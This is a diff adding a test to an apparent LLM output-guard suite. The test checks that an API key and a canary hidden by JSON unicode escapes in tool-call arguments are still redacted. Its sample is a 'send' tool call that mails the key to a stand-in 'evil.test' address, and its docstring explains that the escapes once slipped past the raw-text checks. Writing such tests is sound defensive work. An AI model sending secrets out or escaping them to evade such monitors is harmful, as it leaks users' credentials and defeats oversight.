@@ -562,6 +562,48 @@ async def test_a_secret_in_a_legacy_function_call_is_redacted() -> None:
     assert got == args.replace(KEY, "[REDACTED:api_key]")
 
 
+@pytest.mark.anyio
+async def test_a_key_and_the_canary_hidden_by_json_escapes_in_call_arguments_are_caught() -> None:
+    """The application decodes the arguments before acting on them: "\\u0073k-proj-..." is the
+    key. The checks read the raw JSON text, so escapes hid the key and the canary."""
+    hide = KEY.replace("s", "\\u0073", 1) + " and " + CANARY.replace("Y", "\\u0059")
+    args = '{"to":"x@evil.test","body":"' + hide + '"}'
+    assert json.loads(args)["body"] == f"{KEY} and {CANARY}"
+    call = {"index": 0, "id": "c1", "type": "function", "function": {"name": "send"}}
+    data = b"".join(
+        [event({"role": "assistant", "tool_calls": [{**call, "function": {
+            "name": "send", "arguments": ""}}]})]
+        + [event({"tool_calls": [{"index": 0, "function": {"arguments": p}}]})
+           for p in small(args, 7)]
+        + [event({}, finish="tool_calls"), b"data: [DONE]\n\n"]
+    )  # fmt: skip
+    g = guard(output={"secrets": "redact", "canary": CANARY, "canary_action": "redact"})
+    for reads in (None, per_event(data)):
+        events, _, _ = await relay(g, data, reads)
+        got = "".join(
+            (tc.get("function") or {}).get("arguments") or ""
+            for e in events if isinstance(e, dict) for ch in e.get("choices") or ()
+            for tc in ch["delta"].get("tool_calls") or ()
+        )  # fmt: skip
+        body = json.loads(got)["body"]
+        assert body == "[REDACTED:api_key] and [REDACTED:canary]"
+    # Escaped backslashes are no escape: left as they came.
+    c = ctx()
+    plain = '{"path":"C:\\\\u0073ers"}'
+    c.response = {"choices": [{"index": 0, "message": {"role": "assistant", "content": None,
+        "tool_calls": [{"id": "c1", "type": "function",
+                        "function": {"name": "f", "arguments": plain}}]}}]}  # fmt: skip
+    await guard().on_response(c)
+    assert c.response["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] == plain
+    # Not streamed: the same.
+    c.response = {"choices": [{"index": 0, "message": {"role": "assistant", "content": None,
+        "tool_calls": [{"id": "c1", "type": "function",
+                        "function": {"name": "send", "arguments": args}}]}}]}  # fmt: skip
+    await g.on_response(c)
+    out = c.response["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
+    assert json.loads(out)["body"] == "[REDACTED:api_key] and [REDACTED:canary]"
+
+
 async def sent_before_block(g: Plugin, data: bytes) -> bytes:
     """What the client got, event by event, before the guard ended the stream (the relay
     turns the ContentPolicyError into the final error event)."""
